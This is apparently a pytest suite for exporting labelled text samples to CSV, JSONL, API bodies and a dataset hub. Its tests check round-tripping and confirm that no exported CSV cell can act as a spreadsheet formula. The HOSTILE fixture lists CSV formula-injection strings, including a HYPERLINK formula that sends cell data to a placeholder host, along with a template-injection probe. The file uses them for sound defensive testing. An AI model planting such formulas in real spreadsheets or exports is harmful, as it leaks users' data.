"""What is exported is read back by those that it is for, is there whole or not at all, and is attached."""

import csv
import io
import itertools
import json
import random
import re
import resource
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import datasets
import pandas as pd
import pytest
import yaml
from fakes.builders import make_exemplar, make_stamp
from fakes.readers import stay_offline
from fakes.stored import HANDLE, attach_set, write_lines, write_model

from engine.definitions.loader import load_model
from engine.definitions.sources import gather_lines, walk_csv
from engine.domain.formulas import quote_formulas, unquote_formulas
from engine.domain.samples import SAMPLE_SCHEMA, make_row
from engine.errors import ExemplarsError, InputError, StoreError, UnknownModelError
from engine.handover.export import FORMATS, Export, export_samples
from engine.handover.lines import BODY_BYTES, BODY_SAMPLES, join_body, pack_bodies
from engine.store.sample_set import SampleSet
from engine.store.store import detach_stored, write_set

EVERY_FORMAT = pytest.mark.parametrize("format_name", FORMATS)
# Each would be run by a spreadsheet, ends a line for some reader, or is what our own quoting writes.
HOSTILE = (
    '=HYPERLINK("http://x.test?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "  =1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    "''tis",
    'a "b", c;=1',
    'a;"=1+1"',
    "a;'=1",
    "a\t =1|+1,@SUM(1)\n-2",
    "He said, 'no': run(['ls','-l'])",
    "two\nlines\r\nand\rmore",
    "one\u2028line\x85only",
    "Ärger ☃ 🦊 עברית",
    "{{ 7*7 }} <b>",
)


@pytest.fixture
def models(tmp_path: Path) -> Path:
    write_model(tmp_path / "models", ("authored.jsonl", write_lines({"content": "By hand.", "clarity": 1.0})))
    return tmp_path / "models"


@pytest.fixture
def samples(tmp_path: Path) -> Path:
    """Two attached sets of both traits, one of an evaluation pool, and sets that are not handed on."""
    store = tmp_path / "samples"
    attach_set(store, "one", 6, ("clarity", "safety"))
    attach_set(store, "two", 4)
    attach_set(store, "held", 2, pool="eval")
    attach_set(store, "failed", status="rejected", rejected=3)
    detach_stored(attach_set(store, "off", 8))
    return store


def attach_hostile(store: Path) -> None:
    stamp = make_stamp("hostile")
    poles: Any = ("positive", "negative")
    rows = [
        make_row(make_exemplar(text, poles[number % 2], number), replace(stamp, handle=HANDLE), None)
        for number, text in enumerate(HOSTILE)
    ]
    write_set(str(store), SampleSet(replace(stamp, handle=HANDLE), "train", "attached", "plan", rows, [], {}, {}))


def export(models: Path, samples: Path, to: Path, format_name: str, *rest: Any, **options: Any) -> Export:
    return export_samples(str(models), str(samples), HANDLE, str(to), format_name, *rest, **options)


def list_texts(store: Path, pool: str = "train") -> list[str]:
    files = sorted((store / f"handle={HANDLE}/pool={pool}").glob("run=*/samples.parquet"))
    return sorted(text for file in files for text in pd.read_parquet(file, partitioning=None)["text"])


def list_left(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def test_platform_lines_are_a_source_that_gives_the_same_samples(models: Path, samples: Path) -> None:
    attach_hostile(samples)
    model = models / HANDLE
    done = export(models, samples, model / "handed.jsonl", "platform")
    definition = yaml.safe_load((model / "model.yaml").read_text())
    definition["sources"] += yaml.safe_load(done.source or "")["sources"]
    (model / "model.yaml").write_text(yaml.safe_dump(definition))
    loaded = load_model(str(models), HANDLE)
    handed = [seed for seed in loaded.seeds if "handed.jsonl" in seed.place]

    assert () == loaded.skipped
    assert 1 == len(loaded.seeds) - len(handed)
    assert 10 + len(HOSTILE) == done.samples == len(handed)
    wanted = [text.strip() for text in list_texts(samples)]
    assert sorted(wanted) == sorted(seed.text for seed in handed)
    assert {("clarity", 1.0), ("clarity", 0.0), ("safety", 0.0)} >= {(seed.trait, seed.quality) for seed in handed}


def test_platform_leaves_out_what_is_labelled_for_no_trait_of_the_model(models: Path, samples: Path) -> None:
    attach_set(samples, "older", 2, ("tone",))
    done = export(models, samples, models / "a.jsonl", "platform")

    assert (10, 2) == (done.samples, done.left_out)
    assert "tone" not in (models / "a.jsonl").read_text()


def test_field_of_a_trait_is_not_taken_for_the_text(tmp_path: Path) -> None:
    folder = tmp_path / HANDLE
    folder.mkdir()
    (folder / "model.yaml").write_text("traits: [{type: topic, key: content}]")
    attach_set(tmp_path / "samples", "one", 2, ("content",))
    done = export(tmp_path, tmp_path / "samples", folder / "a.jsonl", "platform")
    (folder / "model.yaml").write_text(f"traits: [{{type: topic, key: content}}]\n{done.source}")

    assert ["one 0", "one 1"] == [seed.text for seed in load_model(str(tmp_path), HANDLE).seeds]


def test_bodies_have_what_the_endpoint_takes_and_no_more_of_it(models: Path, samples: Path, tmp_path: Path) -> None:
    attach_set(samples, "many", 1_101)
    done = export(models, samples, tmp_path / "bodies", "api")
    bodies = [json.loads(path.read_text()) for path in sorted((tmp_path / "bodies").iterdir())]
    entries = [entry for body in bodies for entry in body["samples"]]

    assert [BODY_SAMPLES, BODY_SAMPLES, 111] == [len(body["samples"]) for body in bodies]
    assert 1_111 == done.samples == len(entries)
    assert list_texts(samples) == sorted(entry["text"] for entry in entries)
    assert {("trait", "text", "quality", "content_sha256")} == {tuple(entry) for entry in entries}


@pytest.mark.parametrize(("more", "packed"), [(0, [2, 1]), (1, [1, 2])])
def test_bodies_stay_below_what_the_door_takes(more: int, packed: list[int]) -> None:
    half = (BODY_BYTES - len(join_body([]))) // 2 - 2
    left = BODY_BYTES - len(join_body([])) - 2 * 2 - half
    bodies = list(pack_bodies([b"x" * half, b"x" * (left + more), b"x"]))

    assert packed == [len(body) for body in bodies]
    assert all(len(join_body(body)) <= BODY_BYTES for body in bodies)


def test_csv_reads_back_with_pandas_and_the_csv_module(models: Path, samples: Path, tmp_path: Path) -> None:
    attach_hostile(samples)
    file = tmp_path / "a.csv"
    export(models, samples, file, "csv", "all")
    frame = pd.read_csv(file, keep_default_na=False)
    text = file.read_bytes().decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert ["handle", "pool", *SAMPLE_SCHEMA.names] == list(frame.columns) == list(rows[0])
    assert {"train": 10 + len(HOSTILE), "eval": 2} == frame["pool"].value_counts().to_dict()
    wanted = sorted(list_texts(samples) + list_texts(samples, "eval"))
    assert (
        wanted == sorted(map(unquote_formulas, frame["text"])) == sorted(unquote_formulas(row["text"]) for row in rows)
    )


def test_no_cell_of_the_csv_is_a_formula_by_any_separator(models: Path, samples: Path, tmp_path: Path) -> None:
    attach_hostile(samples)
    export(models, samples, tmp_path / "a.csv", "csv")
    content = (tmp_path / "a.csv").read_bytes().decode()
    ways: Any = itertools.product(",;\t|", (csv.QUOTE_MINIMAL, csv.QUOTE_NONE))
    for separator, quoting in ways:
        rows = csv.reader(io.StringIO(content, newline=""), delimiter=separator, quoting=quoting)
        cells = [cell for row in rows for cell in row]

        assert len(cells) > len(HOSTILE)
        assert [] == [cell for cell in cells if re.match(r'[\s"]*[=+\-@＝＋－＠]', cell)]


def test_our_own_readers_of_csv_get_the_texts_back(models: Path, samples: Path, tmp_path: Path) -> None:
    attach_hostile(samples)
    export(models, samples, tmp_path / "a.csv", "csv", "train", "hostile")
    content = (tmp_path / "a.csv").read_bytes().replace(b",text,", b",content,", 1)
    labels = {"quality": load_model(str(models), HANDLE).traits[0]}
    foreign = "content,quality\r\n\"run(['ls','-l'])\",1\r\n"

    read = [seed.text for seed in gather_lines(walk_csv("a.csv", io.BytesIO(content), labels))[0]]
    assert [text.strip() for text in HOSTILE] == read
    # A file that no export wrote is read as it stands.
    assert ["run(['ls','-l'])"] == [
        seed.text for seed in gather_lines(walk_csv("b.csv", io.BytesIO(foreign.encode()), labels))[0]
    ]


def test_quoted_formulas_come_back_whatever_the_text_is() -> None:
    draw = random.Random(1)
    for _ in range(5_000):
        text = "".join(draw.choices("=+-@＝;,|\t\n\r'\" ax", k=8))
        assert text == unquote_formulas(quote_formulas(text))
    # Searched again from each line break, these would take hours, which the limit of a test ends.
    assert "\n" * 1_000_000 == unquote_formulas(quote_formulas("\n" * 1_000_000))


def test_jsonl_has_all_columns_as_they_are(models: Path, samples: Path, tmp_path: Path) -> None:
    attach_hostile(samples)
    export(models, samples, tmp_path / "a.jsonl", "jsonl", "train", "hostile")
    frame = pd.read_json(tmp_path / "a.jsonl", lines=True)
    [stored] = samples.rglob("run=hostile/samples.parquet")
    wanted = pd.read_parquet(stored, partitioning=None)

    assert ["handle", "pool", *SAMPLE_SCHEMA.names] == list(frame.columns)
    assert len(HOSTILE) == len((tmp_path / "a.jsonl").read_text().splitlines())
    for name in ("id", "text", "quality", "scenario", "content_sha256", "created_at"):
        assert wanted[name].to_list() == frame[name].to_list()


def test_hub_folder_loads_with_datasets_split_by_pool(
    models: Path, samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    stay_offline(monkeypatch, tmp_path)
    attach_hostile(samples)
    done = export(models, samples, tmp_path / "hub", "hub")
    found = datasets.load_dataset(str(tmp_path / "hub"))
    card = (tmp_path / "hub/README.md").read_text()
    header = yaml.safe_load(card.split("---\n")[1])

    assert 12 + len(HOSTILE) == done.samples
    assert {"train": 10 + len(HOSTILE), "test": 2} == {name: split.num_rows for name, split in found.items()}
    assert SAMPLE_SCHEMA.names == found["train"].column_names
    assert list_texts(samples) == sorted(found["train"]["text"])
    assert ("unknown", ["n<1K"]) == (header["license"], header["size_categories"])
    assert "| `clarity` | positive | Clear | 15 | 1 |" in card
    assert "split `test` was set aside" in card
    assert "```python\nfrom datasets import load_dataset\n" in card
    export(models, samples, tmp_path / "train", "hub", "train")
    files = sorted(str(path.relative_to(tmp_path / "train")) for path in (tmp_path / "train").rglob("*.*"))
    assert ["README.md", "data/train.parquet"] == files
    assert "set aside" not in (tmp_path / "train/README.md").read_text()


@EVERY_FORMAT
def test_two_exports_of_one_run_are_the_same_bytes(
    models: Path, samples: Path, tmp_path: Path, format_name: str
) -> None:
    read = []
    for name in ("a", "b"):
        done = export(models, samples, tmp_path / name, format_name, None, "two")
        assert (4, 1, ("train",)) == (done.samples, done.runs, done.pools)
        files = [tmp_path / name] if (tmp_path / name).is_file() else sorted((tmp_path / name).rglob("*.*"))
        read.append([path.read_bytes() for path in files])

    assert read[0] == read[1]


@pytest.mark.parametrize(
    ("given", "said"),
    [
        (("u22a8.tests", "a", "csv"), "No model 'u22a8.tests'"),
        (("No", "a", "csv"), "is not a handle"),
        ((HANDLE, "a", "parquet"), "'parquet' is no format. There are: platform, api, csv, jsonl, hub"),
        ((HANDLE, "a", "json"), "Did you mean jsonl"),
        ((HANDLE, "a", "csv", "test"), "'test' is no pool. There are: train, eval, all"),
        ((HANDLE, "a", "platform", "all"), "kept apart from those. Leave --pool out"),
        ((HANDLE, "a", "api", "eval"), "kept apart from those. Leave --pool out"),
        ((HANDLE, "a", "csv", None, "none"), "has no set of run 'none'"),
        ((HANDLE, "a", "csv", None, "failed"), "is rejected, and only attached samples are handed on"),
        ((HANDLE, "a", "csv", None, "off"), "is detached, and only attached samples are handed on"),
        ((HANDLE, "a", "csv", None, "held"), "Name its pool: --pool eval"),
        (("u22a8.bare", "a", "csv"), "no attached samples in the pool train, so there is nothing to hand on. `exemp"),
        ((HANDLE, "away/a", "csv"), "There is no folder"),
        ((HANDLE, "s3://bucket/a", "csv"), "Give a local path, and copy it from there"),
        ((HANDLE, "", "csv"), "is no place for an export"),
        ((HANDLE, "there", "csv"), "there exists. Give a new file as --to, or replace it with --force"),
    ],
)
def test_what_is_wrong_is_said_and_nothing_is_left(
    models: Path, samples: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, given: Sequence[Any], said: str
) -> None:
    write_model(models, handle="u22a8.bare")
    (tmp_path / "there").write_text("mine")
    monkeypatch.chdir(tmp_path)
    before = list_left(tmp_path)
    with pytest.raises(InputError, match=re.escape(said)):
        export_samples(str(models), str(samples), *given)

    assert before == list_left(tmp_path)
    assert "mine" == (tmp_path / "there").read_text()


def test_pool_or_model_that_has_the_samples_is_named(models: Path, tmp_path: Path) -> None:
    attach_set(tmp_path / "samples", "held", pool="eval")
    with pytest.raises(InputError, match="The pool eval has some: --pool eval"):
        export(models, tmp_path / "samples", tmp_path / "a", "csv")
    attach_set(tmp_path / "samples", "other", handle="u22a8.other")
    with pytest.raises(InputError, match=r"is of u22a8\.other, not of u22a8\.test\. Export u22a8\.other"):
        export(models, tmp_path / "samples", tmp_path / "a", "csv", None, "other")
    with pytest.raises(UnknownModelError):
        export_samples(str(models), str(tmp_path / "samples"), "u22a8.other", str(tmp_path / "a"), "csv")


@EVERY_FORMAT
def test_force_replaces_an_earlier_export(models: Path, samples: Path, tmp_path: Path, format_name: str) -> None:
    export(models, samples, tmp_path / "a", format_name, None, "one")
    before = list_left(tmp_path)
    with pytest.raises(InputError, match="or replace it with --force"):
        export(models, samples, tmp_path / "a", format_name)
    done = export(models, samples, tmp_path / "a", format_name, force=True)

    assert done.samples > 6
    assert before == list_left(tmp_path)


@pytest.mark.parametrize("format_name", ["api", "hub"])
def test_force_replaces_no_folder_with_anything_else_in_it(
    models: Path, samples: Path, tmp_path: Path, format_name: str
) -> None:
    export(models, samples, tmp_path / "a", format_name)
    (tmp_path / "a/notes.txt").write_text("mine")
    with pytest.raises(InputError, match=r"holds notes\.txt, which no export of this format wrote"):
        export(models, samples, tmp_path / "a", format_name, force=True)
    with pytest.raises(InputError, match="a is no file, and what this format makes is one"):
        export(models, samples, tmp_path / "a", "csv", force=True)
    with pytest.raises(InputError, match=r"notes\.txt is no folder, and what this format makes is one"):
        export(models, samples, tmp_path / "a/notes.txt", format_name, force=True)

    assert "mine" == (tmp_path / "a/notes.txt").read_text()


@EVERY_FORMAT
def test_disk_that_fills_up_leaves_nothing(models: Path, tmp_path: Path, format_name: str) -> None:
    store = tmp_path / "samples"
    attach_set(store, "one", 3_000)
    (tmp_path / "out").mkdir()
    with limit_files(20_000), pytest.raises(StoreError, match=r"a cannot be written: .*Free space or permit writing"):
        export(models, store, tmp_path / "out/a", format_name)

    assert [] == list_left(tmp_path / "out")


@EVERY_FORMAT
def test_damaged_set_leaves_nothing(models: Path, samples: Path, tmp_path: Path, format_name: str) -> None:
    [file] = samples.rglob("run=two/samples.parquet")
    content = bytearray(file.read_bytes())
    content[40:400] = bytes(360)
    file.write_bytes(content)
    (tmp_path / "out").mkdir()
    with pytest.raises(ExemplarsError, match=r"The samples of run two, attached to u22a8\.test, cannot be read"):
        export(models, samples, tmp_path / "out/a", format_name)

    assert [] == list_left(tmp_path / "out")


@contextmanager
def limit_files(size: int) -> Iterator[None]:
    """No file may grow beyond so many bytes; a full disk fails in the same place."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
